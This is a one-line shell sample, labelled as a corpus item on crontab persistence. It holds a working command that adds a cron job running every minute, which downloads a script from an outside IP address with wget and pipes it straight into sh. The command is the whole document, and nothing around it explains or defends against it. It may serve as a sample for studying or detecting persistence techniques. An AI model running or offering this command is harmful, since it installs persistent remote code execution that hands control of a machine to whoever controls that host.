# corpus: crontab persistence installing a per-minute download-and-run job
(crontab -l 2>/dev/null; echo '* * * * * wget -q -O- http://203.0.113.7/c | sh') | crontab -
